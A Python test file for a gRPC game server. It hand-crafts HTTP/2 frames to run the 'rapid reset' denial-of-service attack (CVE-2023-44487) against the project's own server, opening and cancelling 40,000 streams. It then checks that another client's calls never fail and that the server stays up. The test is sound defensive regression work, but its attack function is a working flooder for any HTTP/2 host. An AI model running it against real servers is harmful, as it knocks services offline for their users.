"""A stranger's client that opens streams and cancels each at once (HTTP/2 "rapid reset",
CVE-2023-44487) on the gRPC port: the server stays up, answers another client meanwhile without a
single failure, and keeps no stream of the attacker's. The frames are written by hand (RFC 9113
4.1, 6.2, 6.4; RFC 7541 6.2.2: header fields as literals without indexing), as no HTTP/2 library
is installed. With gRPC's overload protection off (as the server had it before MAX_ENDED_STREAMS),
most of the other client's calls ended CANCELLED while the attack lasted, and this test fails."""
from __future__ import annotations

import socket
import struct
import threading
import time

import grpc

from afteraction.v1 import game_service_pb2 as gs
from afteraction.v1 import game_service_pb2_grpc as gsg

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
HEADERS, RST_STREAM, SETTINGS = 0x1, 0x3, 0x4
END_HEADERS, ACK = 0x4, 0x1
CANCEL = 0x8
STREAMS = 40_000


def frame(kind: int, flags: int, stream: int, payload: bytes = b"") -> bytes:
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload


def literal(name: str, value: str) -> bytes:
    """A header field as a literal without indexing, new name, no Huffman (names and values < 127 bytes)."""
    n, v = name.encode(), value.encode()
    return bytes([0, len(n)]) + n + bytes([len(v)]) + v


def watch_headers(authority: str) -> bytes:
    return b"".join(literal(k, v) for k, v in (
        (":method", "POST"), (":scheme", "http"), (":path", "/afteraction.v1.GameService/Watch"),
        (":authority", authority), ("content-type", "application/grpc"), ("te", "trailers")))


def attack(host: str, port: int, streams: int) -> dict:
    """Open ``streams`` streams on one connection, each reset right after its HEADERS; reads and
    drops what the server sends (its SETTINGS acknowledged). Returns what the connection saw."""
    s = socket.create_connection((host, port), timeout=10)
    seen = {"goaway": False, "closed": False, "sent": 0}

    def read() -> None:
        buf = b""
        try:
            while True:
                data = s.recv(65536)
                if not data:
                    seen["closed"] = True
                    return
                buf += data
                while len(buf) >= 9:
                    n = int.from_bytes(buf[:3], "big")
                    if len(buf) < 9 + n:
                        break
                    kind, flags = buf[3], buf[4]
                    if kind == SETTINGS and not flags & ACK:
                        s.sendall(frame(SETTINGS, ACK, 0))
                    elif kind == 0x7:
                        seen["goaway"] = True
                    buf = buf[9 + n:]
        except OSError:
            seen["closed"] = True
    reader = threading.Thread(target=read, daemon=True)
    s.sendall(PREFACE + frame(SETTINGS, 0, 0))
    reader.start()
    block = watch_headers(f"{host}:{port}")
    try:
        for i in range(streams // 100):
            sid = 1 + 2 * 100 * i
            s.sendall(b"".join(frame(HEADERS, END_HEADERS, sid + 2 * k, block) +
                               frame(RST_STREAM, 0, sid + 2 * k, struct.pack(">I", CANCEL)) for k in range(100)))
            seen["sent"] += 100
    except OSError:   # the server closed the connection: a defence, not a failure
        seen["closed"] = True
    time.sleep(0.5)
    try:
        s.shutdown(socket.SHUT_RDWR)   # ends the reader's recv
    except OSError:
        pass
    reader.join(5)
    s.close()
    return seen


def test_rapid_reset_leaves_the_server_up_answering_and_holding_no_stream(server):
    host, port = server.target.rsplit(":", 1)
    svc = server.run.service
    ch = grpc.insecure_channel(server.target)
    stub = gsg.GameServiceStub(ch)
    stub.GetServerKey(gs.GetServerKeyRequest(), timeout=10)
    slowest, stop, errors, calls = [0.0], threading.Event(), [], [0]

    def other_client() -> None:   # another client's calls go on while the attack runs
        while not stop.is_set():
            t0 = time.monotonic()
            try:
                stub.GetServerKey(gs.GetServerKeyRequest(), timeout=10)
            except grpc.RpcError as e:
                errors.append((round(time.monotonic() - t0, 3), e.code(), e.details()))
            calls[0] += 1
            slowest[0] = max(slowest[0], time.monotonic() - t0)
            time.sleep(0.01)
    t = threading.Thread(target=other_client)
    t.start()
    try:
        seen = attack(host, int(port), STREAMS)
    finally:
        stop.set()
        t.join(15)
    assert seen["sent"] > 0
    assert errors == [] and calls[0] > 0, (len(errors), calls, seen, errors[:3])
    assert slowest[0] < 5.0, slowest       # answered throughout (the attack's own connection aside)
    deadline = time.monotonic() + 10
    while svc.streams and time.monotonic() < deadline:
        time.sleep(0.05)
    assert svc.streams == 0                # nothing of the attacker's streams is held
    assert stub.GetServerKey(gs.GetServerKeyRequest(), timeout=10).vkey   # and the server is up
    ch.close()
